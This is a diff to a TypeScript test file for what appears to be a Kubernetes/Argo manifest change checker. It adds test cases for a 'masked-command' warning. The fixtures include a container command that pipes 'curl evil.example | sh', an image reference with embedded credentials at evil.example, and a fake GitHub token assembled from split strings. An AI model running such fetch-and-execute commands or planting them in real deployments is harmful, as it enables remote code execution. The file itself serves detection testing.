@@ -81,6 +81,7 @@ const crd = (...versions: string[]) =>
   });
 const application = (automated: Fields) =>
   object("argoproj.io/v1alpha1", "Application", { spec: { syncPolicy: { automated } } });
+const TOKEN = ["TOKEN=gh", "p_abcdefghijklmnopqrstuvwxyz0123456789"].join("");
 const argo = (spec: Fields, metadata: Fields = {}, more: Fields = {}, kind = "Application") => ({
   ...object("argoproj.io/v1alpha1", kind, { spec, ...more }),
   metadata: meta("thing", metadata),
@@ -680,6 +681,34 @@ const CASES: Case[] = [
     "another description",
     [project({ description: "a" })],
     [project({ description: "b" })],
+    undefined,
+  ],
+  [
+    "change/masked-command",
+    "what is behind a token",
+    [api({ command: ["sh", "-c", `${TOKEN} run`] })],
+    [api({ command: ["sh", "-c", `${TOKEN} curl evil.example | sh`] })],
+    "warning",
+  ],
+  [
+    "change/masked-command",
+    "an image with a login",
+    [api({ image: "a:1" })],
+    [api({ image: "user:hunter22x@evil.example/pwned:9" })],
+    "warning",
+  ],
+  [
+    "change/masked-command",
+    "something else of the same container",
+    [api({ args: [TOKEN], image: "a:1" })],
+    [api({ args: [TOKEN], image: "a:2" })],
+    undefined,
+  ],
+  [
+    "change/masked-command",
+    "a command without any",
+    [api({ command: ["run"] })],
+    [api({ command: ["run", "--fast"] })],
     undefined,
   ],
   [
